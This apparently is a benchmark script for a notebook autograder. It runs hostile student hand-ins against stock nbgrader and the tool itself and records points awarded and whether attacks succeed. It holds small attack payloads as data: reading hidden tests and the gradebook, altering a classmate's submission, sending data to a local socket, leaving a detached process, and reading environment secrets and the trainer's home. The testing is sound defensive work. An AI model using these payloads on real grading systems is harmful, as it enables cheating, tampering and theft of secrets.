"""Hostile hand-ins: what they earn, read, write and reach with stock nbgrader and with us, side by side.

    .venv/bin/python benchmarks/grading_attacks.py [--quick] [--ours-only]

First table: the hostile hand-ins of the banks (``tests/hand_ins``). Points in all that each should have, that stock
``nbgrader autograde`` gives and that we give, and whether our overview names it to the trainer. Attacks that could
harm the machine are not run with stock. The others run there in a process namespace of their own, so that nothing is
left of them.

Second table: hand-ins that try to get at something outside, in a course with one honest neighbour. Whether they did is
not taken from what they say alone: servers, files and gradebook are looked at afterwards.

``--quick``: one exercise's bank and no endless loops.
"""

import argparse
import contextlib
import json
import os
import shutil
import socket
import sqlite3
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import graders
from graders import HandIn
from rich.console import Console
from rich.table import Table

from coursetools.grading import grade, report
from coursetools.grading.gradebook import Gradebook
from coursetools.grading.job import Assignment
from coursetools.grading.pseudonyms import Pseudonyms

HARMFUL = {
    "disk_is_filled": "fills the disk",
    "lines_without_end": "10⁸ lines of output",
    "memory_is_eaten": "takes all memory",
    "objects_are_bombs": "loops that nothing ends",
    "recursion_without_end": "takes all memory",
}
"""What stock nbgrader, which has no limits, is spared."""
SLUG = "bewusstsein"
"""The exercise of ``--quick`` and of the second table."""
SLOW = ("endless_loop", "loop_swallows_interrupts", "lines_without_end")
WALLS = ("bwrap", "--dev-bind", "/", "/", "--unshare-pid", "--proc", "/proc", "--die-with-parent")
PATIENCE, TIMED_OUT = "90", 124
"""Seconds for one hand-in in stock nbgrader, and what timeout(1) answers then."""


# ---- what they earn ----


def in_stock(folder: Path, hand_ins: list[HandIn], console: Console) -> dict[str, str | graders.Points]:
    """What stock nbgrader records, by person, or why it recorded nothing."""
    found: dict[str, str | graders.Points] = {
        one.person: f"not run: {HARMFUL[one.person]}" for one in hand_ins if one.person in HARMFUL
    }
    harmless = [one for one in hand_ins if one.person not in found]
    graders.stock_course(folder, harmless)
    environment = os.environ | {"IPYTHONDIR": str(folder / "ipython")}
    for number, one in enumerate(harmless):
        with console.status(f"stock nbgrader, {number + 1} of {len(harmless)}: {one.person}"):
            line = [graders.NBGRADER, "autograde", one.slug, "--student", one.person]
            # The clock is outside: an attack could stop one that runs beside it.
            done = graders.run(["timeout", "-k", "5", PATIENCE, *WALLS, *line], folder, environment)
            points = graders.stock_points(folder, one)
            found[one.person] = "hangs" if done.code == TIMED_OUT else points or "nothing recorded"
    return found


def named(root: Path, hand_ins: list[HandIn]) -> set[str]:
    """The people whom our overview of the course in ``root`` asks the trainer to look at."""
    found = set()
    people = {pseudonym: person for person, pseudonym in Pseudonyms(root / grade.FOLDER).people.items()}
    with Gradebook(root) as book:
        for slug in {one.slug for one in hand_ins}:
            assignment = Assignment.load(root, slug)
            found |= {
                people[look.pseudonym]
                for look in report.pile(assignment, list(book.records(assignment))).looks
            }
    return found


def in_ours(folder: Path, hand_ins: list[HandIn]) -> tuple[dict[str, graders.Points], set[str]]:
    """What our gradebook says, by person, and who is named to the trainer."""
    done = graders.ours(folder, hand_ins)
    if done.code != 0:
        raise SystemExit(done.said)
    return graders.our_points(folder, hand_ins), named(folder, hand_ins)


def earned(folder: Path, quick: bool, with_stock: bool, console: Console) -> bool:
    """Print the first table; whether everybody has exactly what they deserve with us and is named."""
    hand_ins = graders.hostile((SLUG,)) if quick else graders.hostile()
    hand_ins = [one for one in hand_ins if not (quick and one.person.endswith(SLOW))]
    people = {one.person: one for one in hand_ins}
    load = graders.load()
    with console.status(f"ours: {len(hand_ins)} hostile hand-ins"):
        ours, seen = in_ours(folder / "earn-ours", hand_ins)
    theirs = in_stock(folder / "earn-stock", hand_ins, console) if with_stock else {}
    table = Table(title=f"What hostile hand-ins earn; {load}")
    for name in ("attack", "deserves", "stock nbgrader", "FairKI", "named"):
        table.add_column(name, justify="left" if name == "attack" else "right")
    for person, one in people.items():
        table.add_row(
            person.replace("_", " "),
            _sum(one.earns),
            _sum(theirs.get(person, "not run")),
            _sum(ours[person]),
            "yes" if person in seen else "NO",
        )
    console.print(table)
    wrong = {person for person, one in people.items() if ours.get(person) != one.earns}
    if with_stock:
        graded = {person: points for person, points in theirs.items() if not isinstance(points, str)}
        more = sum(_more(points, people[person].earns) for person, points in graded.items())
        without = sum(points in ("hangs", "nothing recorded") for points in theirs.values())
        console.print(f"stock nbgrader: {more} earn more than they deserve, {without} end without points")
    console.print(
        f"FairKI: {len(wrong)} of {len(people)} earn what they do not deserve {sorted(wrong)};"
        f" {len(seen & people.keys())} of {len(people)} are named in the overview"
    )
    return not wrong and seen >= people.keys()


def _sum(points: str | graders.Points) -> str:
    if isinstance(points, str):
        return points
    return f"{sum(value for value in points.values() if isinstance(value, float | int)):g}"


def _more(found: graders.Points, deserved: graders.Points) -> bool:
    """Whether any cell has more points than it should."""
    return any(
        points > deserved[cell] for cell, points in found.items() if "manual" not in (points, deserved[cell])
    )


# ---- what they get at ----

CANARY = "Kanarienvogel"
NEIGHBOUR = "z-nachbar"  # graded last
SUCCESS = "GELUNGEN"


@dataclass(frozen=True)
class Place:
    """Where an attack happens: the course, the server's port; what the server got."""

    root: Path
    port: int
    received: list[bytes]

    def prints(self, person: str) -> bool:
        """Whether the notebook of a person, once run, shows what only a successful attack can print."""
        folder = self.root / grade.FOLDER
        name = Pseudonyms(folder).people.get(person, person)  # stock has no pseudonyms
        path = folder / grade.AUTOGRADED / name / SLUG / f"{SLUG}.ipynb"
        cells = json.loads(path.read_bytes())["cells"] if path.exists() else []
        return any(
            SUCCESS in "".join(output.get("text", "")) for cell in cells for output in cell.get("outputs", [])
        )

    def neighbour(self) -> bytes:
        """The hand-in of the honest neighbour."""
        paths = (self.root / grade.FOLDER / "submitted").glob(f"*/{SLUG}/{SLUG}.ipynb")
        return next(text for path in paths if CANARY.encode() in (text := path.read_bytes()))

    def spoken_to(self, table: str) -> bool:
        """Whether the gradebook holds a table of this name."""
        with sqlite3.connect(self.root / "gradebook.db", timeout=30) as database:
            return bool(database.execute("SELECT 1 FROM sqlite_master WHERE name = ?", (table,)).fetchone())


@dataclass(frozen=True)
class Attack:
    """Something that a hand-in tries.

    Attributes:
        does: in words.
        code: of the answer; ``{root}``, ``{port}``, ``{home}`` are filled in.
        succeeded: how to see whether it did.
    """

    does: str
    code: str
    succeeded: Callable[[Place, str], bool]


ATTACKS = {
    "a-solution": Attack(
        "reads hidden tests in the solution",
        'print("GELUNG" + "EN" * ("HIDDEN" in open("{root}/solutions/bewusstsein/bewusstsein.ipynb").read()))',
        Place.prints,
    ),
    "b-gradebook": Attack(
        "reads hidden tests in the gradebook",
        """
import sqlite3
quellen = sqlite3.connect("file:{root}/gradebook.db?mode=ro", uri=True).execute("SELECT source FROM source_cell")
print("GELUNG" + "EN" * ("HIDDEN" in str(quellen.fetchall())))
""",
        Place.prints,
    ),
    "c-neighbour": Attack(
        "reads another person's answers",
        """
import glob
texte = [open(ort).read() for ort in glob.glob("{root}/bewertung/submitted/*/*/*.ipynb")]
print("GELUNG" + "EN" * any("Kanarien" + "vogel" in text for text in texte))
""",
        Place.prints,
    ),
    "d-edit": Attack(
        "changes another person's hand-in",
        """
import glob
for ort in glob.glob("{root}/bewertung/submitted/*/*/*.ipynb"):
    text = open(ort).read()
    if "Kanarien" + "vogel" in text:
        open(ort, "w").write(text.replace("vogel", "vogel, geändert"))
""",
        lambda place, _: "geändert".encode() in place.neighbour(),
    ),
    "e-points": Attack(
        "writes to the gradebook",
        """
import sqlite3
noten = sqlite3.connect("{root}/gradebook.db", timeout=20)
noten.execute("CREATE TABLE spur_von_e (x)")
noten.commit()
""",
        lambda place, _: place.spoken_to("spur_von_e"),
    ),
    "f-file": Attack(
        "writes a file into the course",
        'open("{root}/spur", "w").write("hier")',
        lambda place, _: (place.root / "spur").exists(),
    ),
    "g-network": Attack(
        "sends what it knows to a server",
        """
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=5) as leitung:
    leitung.sendall(b"hidden tests")
""",
        lambda place, _: b"hidden tests" in place.received,
    ),
    "h-process": Attack(
        "leaves a process behind that acts later",
        """
import subprocess, sys
spaeter = "import time; time.sleep(1); open('{root}/spaeter', 'w')"
subprocess.Popen([sys.executable, "-c", spaeter], start_new_session=True)
""",
        lambda place, _: (place.root / "spaeter").exists(),
    ),
    "i-environment": Attack(
        "reads secrets in the environment",
        'import os\nprint("GELUNG" + "EN" * (os.environ.get("FAIRKI_SECRET") == "Kanarien" + "vogel"))',
        Place.prints,
    ),
    "j-home": Attack(
        "finds files in the trainer's home",
        'import os\nprint("GELUNG" + "EN" * any(entry.is_file() for entry in os.scandir("{home}")))',
        Place.prints,
    ),
}


def reached(folder: Path, with_stock: bool, console: Console) -> bool:
    """Print the second table; whether nothing was reached with us, everybody is named and the neighbour is well."""
    os.environ["FAIRKI_SECRET"] = CANARY
    with console.status("ours: what attacks get at"), _server() as (port, received):
        place = Place(folder / "reach-ours", port, received)
        hand_ins = _with_neighbour(place, ATTACKS)
        points, seen = in_ours(place.root, hand_ins)
        time.sleep(3)
        ours = {person: attack.succeeded(place, person) for person, attack in ATTACKS.items()}
    theirs = {}
    for person, attack in ATTACKS.items() if with_stock else ():
        with console.status(f"stock nbgrader: {attack.does}"), _server() as (port, received):
            place = Place(folder / "reach-stock", port, received)
            graders.stock_course(place.root, _with_neighbour(place, [person]))
            graders.autograde(place.root, SLUG)
            time.sleep(3)
            theirs[person] = attack.succeeded(place, person)
            shutil.rmtree(place.root)
    table = Table(title="What hostile hand-ins get at")
    for name in ("attack", "stock nbgrader", "FairKI", "named"):
        table.add_column(name, justify="left" if name == "attack" else "right")
    for person, attack in ATTACKS.items():
        said = {True: "succeeds", False: "fails", None: "not run"}[theirs.get(person)]
        table.add_row(
            attack.does, said, "SUCCEEDS" if ours[person] else "fails", "yes" if person in seen else "NO"
        )
    console.print(table)
    paid = [one.person for one in hand_ins if points.get(one.person) != one.earns]
    console.print(
        f"stock nbgrader: {sum(theirs.values())} of {len(theirs)} succeed. FairKI: {sum(ours.values())} of {len(ours)}"
        f" succeed, {len(seen & ATTACKS.keys())} are named; not what they deserve: {paid}"
    )
    return not any(ours.values()) and seen >= ATTACKS.keys() and NEIGHBOUR not in seen and not paid


def _with_neighbour(place: Place, people: Iterable[str]) -> list[HandIn]:
    """Those who attack ``place``, with a wrong answer, and an honest one."""
    found = [_hand_in(NEIGHBOUR, {"base": "light", "answers": {"f1": f"Mein {CANARY} sieht das so."}})]
    for person in people:
        code = "abstand_abgelesen = 50\n" + ATTACKS[person].code
        for name, value in (("root", place.root), ("port", place.port), ("home", Path.home())):
            code = code.replace(f"{{{name}}}", str(value))
        points = {"a1-test-1": 0, "a1-test-2": 0}
        found.append(_hand_in(person, {"base": "light", "answers": {"a1": code}, "points": points}))
    return found


def _hand_in(person: str, text: dict) -> HandIn:
    return HandIn(person, SLUG, graders.made(SLUG, text).encode(), graders.expected(SLUG, text))


@contextmanager
def _server() -> Iterator[tuple[int, list[bytes]]]:
    """A server on this machine: its port, and what it is sent."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        received: list[bytes] = []
        threading.Thread(target=_listen, args=(server, received), daemon=True).start()
        yield server.getsockname()[1], received


def _listen(server: socket.socket, received: list[bytes]) -> None:
    with contextlib.suppress(OSError):  # the end of the server
        while True:
            line, _ = server.accept()
            with line:
                received.append(line.recv(1000))


def main() -> None:
    """Attack and print."""
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    options.add_argument("--quick", action="store_true")
    options.add_argument("--ours-only", action="store_true", help="leave stock nbgrader out")
    chosen = options.parse_args()
    console = Console(width=graders.WIDTH)
    with tempfile.TemporaryDirectory() as folder:
        good = earned(Path(folder), chosen.quick, not chosen.ours_only, console)
        good &= reached(Path(folder), not chosen.ours_only, console)
    sys.exit(0 if good else "Somebody reads, writes, reaches or earns what they should not, or is not named.")


if __name__ == "__main__":
    main()
